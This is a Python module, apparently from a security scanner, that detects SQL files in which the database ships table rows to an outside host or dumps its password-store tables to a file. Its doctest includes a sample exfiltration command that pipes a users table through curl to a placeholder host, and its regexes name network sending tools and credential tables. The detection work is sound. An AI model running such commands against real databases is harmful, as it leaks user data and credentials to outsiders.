"""Rows that a database itself sends to a host the SQL file writes.

The family: a "migration", "audit" or "index advisor" script has the database ship its
tables out, where no client-side code shows it:

- a trigger, or a query over row data, calls an HTTP extension (``http_post`` of pgsql-http,
  Supabase's ``net.http_post``, Oracle's ``UTL_HTTP``, Azure SQL's
  ``sp_invoke_external_rest_endpoint``) with a written address, so every changed row goes
  there;
- ``COPY … TO PROGRAM`` pipes a table into a sender (``curl``, ``wget``, ``nc``) with a
  written address.

An address on this machine or the local network is the user's own service.

The server's own password store (``mysql.user``, ``pg_authid``, ``pg_shadow``,
``sys.sql_logins``) written out to a file (``INTO OUTFILE``, ``COPY … TO``) is a
credential dump wherever the file goes.

>>> sql = "COPY users TO PROGRAM 'curl -T - https://ingest.advisor.invalid/u';"
>>> [f.rule_id for f in database_egress_findings("m.sql", sql)]
['database.rows-to-network']
>>> database_egress_findings("m.sql", "COPY users TO PROGRAM 'gzip > /var/backups/u.gz';")
[]
"""

from __future__ import annotations

import re

from .destinations import is_internal
from .findings import ThreatFinding, line_finding, line_of_offset
from .sql_commands import SQL_SUFFIXES

RULE_ID = "database.rows-to-network"
_HTTP_CALL = re.compile(
    r"\b(?:http_(?:post|put|get|patch)|net\.http_(?:post|get)|utl_http\.(?:request|begin_request)"
    r"|sp_invoke_external_rest_endpoint|http)\s*\([^;]*?https?://([\w-]+(?:\.[\w-]+)+)",
    re.I | re.S,
)
_ROW_DATA = re.compile(
    r"\b(?:NEW|OLD)\b|\b(?:row_to_json|json_agg|jsonb_agg|json_build_object|array_agg)\b"
    r"|\bto_jsonb?\s*\(|\bFOR\s+JSON\b",
    re.I,
)
"""Row data in an HTTP call's statement: a trigger's row variables, or JSON built from rows."""
_TRIGGER = re.compile(r"\bRETURNS\s+trigger\b|\bCREATE\s+(?:OR\s+REPLACE\s+)?TRIGGER\b", re.I)
"""A trigger in the file: its function runs for every changed row."""
_COPY_TO_SENDER = re.compile(
    r"\bcopy\b[^;]*?\bTO\s+PROGRAM\s+'[^']*?\b(?:curl|wget|nc|ncat)\b[^']*?"
    r"(?:https?://)?([\w-]+(?:\.[\w-]+)+)",
    re.I | re.S,
)


CREDENTIAL_DUMP = "database.credential-dump"
_PASSWORD_STORE = re.compile(
    r"\b(?:mysql\.user|pg_authid|pg_shadow|sys\.sql_logins|sys\.syslogins|dba_users)\b", re.I
)
_WRITTEN_OUT = re.compile(
    r"\bINTO\s+(?:OUT|DUMP)FILE\b|\bTO\s+(?:PROGRAM\s+)?'|\bTO\s+STDOUT\b", re.I
)
"""A statement that writes its rows out: MySQL's ``INTO OUTFILE``, PostgreSQL's ``COPY … TO``."""


def _statement_at(text: str, offset: int) -> str:
    """The SQL statement around ``offset`` (from the previous semicolon to the next)."""
    start = text.rfind(";", 0, offset) + 1
    end = text.find(";", offset)
    return text[start : end if end >= 0 else len(text)]


def database_egress_findings(path: str, text: str) -> list[ThreatFinding]:
    """A finding at each database call or copy that sends rows to a written outside host."""
    if not path.lower().endswith(SQL_SUFFIXES):
        return []
    lines = text.splitlines()
    if "://" not in text and "PROGRAM" not in text.upper():
        return _credential_dumps(path, text, lines)
    trigger_file = bool(_TRIGGER.search(text))
    findings = []
    for pattern in (_HTTP_CALL, _COPY_TO_SENDER):
        for match in pattern.finditer(text):
            host = match.group(1)
            if is_internal(host) or "." not in host:
                continue
            carries_rows = pattern is _COPY_TO_SENDER or trigger_file
            if not carries_rows and not _ROW_DATA.search(_statement_at(text, match.start())):
                continue
            findings.append(
                line_finding(
                    path,
                    lines,
                    line_of_offset(text, match.start()),
                    "8.2",
                    "high",
                    f"the database sends table rows to {host}, an outside host the SQL writes "
                    "(an HTTP call from a trigger or over row data, or a copy piped to a sender)",
                    RULE_ID,
                )
            )
    findings += _credential_dumps(path, text, lines)
    return findings


def _credential_dumps(path: str, text: str, lines: list[str]) -> list[ThreatFinding]:
    found = []
    for match in _PASSWORD_STORE.finditer(text):
        if _WRITTEN_OUT.search(_statement_at(text, match.start())):
            found.append(
                line_finding(
                    path,
                    lines,
                    line_of_offset(text, match.start()),
                    "8.2",
                    "high",
                    "writes the database server's password store out to a file or a program "
                    "(a credential dump)",
                    CREDENTIAL_DUMP,
                )
            )
    return found
